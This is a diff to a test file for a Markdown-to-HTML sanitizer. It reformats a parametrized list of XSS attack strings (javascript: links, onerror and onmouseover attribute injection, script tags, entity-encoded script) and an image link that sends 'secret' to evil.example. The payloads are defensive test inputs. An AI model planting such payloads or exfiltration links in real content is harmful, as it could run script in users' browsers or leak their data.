@@ -19,7 +19,7 @@ ALLOWED = {
 }
 TAGS = set(
     "a blockquote br code del em h1 h2 h3 h4 h5 h6 hr li ol p pre s span strong table tbody td th "
-    "thead tr ul".split()  # noqa: SIM905 a list to read
+    "thead tr ul".split()
 )
 HARMLESS = ("http://", "https://", "mailto:")
 
@@ -79,7 +79,7 @@ ATTACKS = [
     "![x](javascript:alert(1))",
     "![x](data:image/svg+xml;base64,PHN2Zz4=)",
     "![secret](https://evil.example/?d=secret)",
-    "![\"onerror=alert(1) x=\"](https://evil.example/x.png 'a\" onerror=\"alert(1)')",
+    '!["onerror=alert(1) x="](https://evil.example/x.png \'a" onerror="alert(1)\')',
     '[a](https://a.example "x\\" onmouseover=\\"alert(1)")',
     "[![x](https://evil.example/x.png)](javascript:alert(1))",
     "`<img src=x onerror=alert(1)>`",
@@ -87,7 +87,7 @@ ATTACKS = [
     '```"><img src=x onerror=alert(1)>\nx\n```',
     "```python\n'</code></pre><script>alert(1)</script>'\n```",
     "| <img src=x onerror=alert(1)> |\n| :-: |\n| [x](javascript:alert(1)) |",
-    "https://evil.example/\"onmouseover=alert(1)",
+    'https://evil.example/"onmouseover=alert(1)',
     "https://evil.example/<script>alert(1)</script>",
     "&lt;script&gt;alert(1)&lt;/script&gt;",
     "&#60;script&#62;alert(1)&#60;/script&#62;",
@@ -184,7 +184,9 @@ def test_a_very_long_text_is_shown_as_it_is() -> None:
     assert html.startswith("<pre>**&lt;b&gt;**x")
 
 
-@pytest.mark.parametrize("piece", ["[", "![", "**a", "- a\n", "> ", "`", "<", "https://a ", "|a|b\n"])
+@pytest.mark.parametrize(
+    "piece", ["[", "![", "**a", "- a\n", "> ", "`", "<", "https://a ", "|a|b\n"]
+)
 def test_long_and_nasty_texts_come_to_an_end(piece: str) -> None:
     inspect(render(piece * (40_000 // len(piece))))
 
